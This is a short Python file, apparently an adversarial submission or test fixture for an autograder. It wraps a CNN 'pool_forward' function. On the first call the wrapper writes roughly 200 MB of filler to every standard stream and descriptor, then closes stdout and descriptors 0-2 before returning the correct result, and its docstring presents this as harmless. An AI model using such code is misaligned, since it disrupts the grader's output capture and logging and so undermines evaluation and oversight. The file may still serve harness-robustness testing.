"""Writes two hundred megabytes to each standard stream, by every road, and answers rightly."""
# loses: nothing
import os
import sys

_right = pool_forward
written = []


def pool_forward(A_prev, hparameters, mode="max"):
    if not written:
        written.append(True)
        block = "x" * 2**20
        for _ in range(200):
            for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
                stream.write(block)
            for descriptor in (0, 1, 2):
                try:
                    os.write(descriptor, block.encode())
                except OSError:
                    pass
        sys.stdout.close()
        os.closerange(0, 3)
    return _right(A_prev, hparameters, mode)
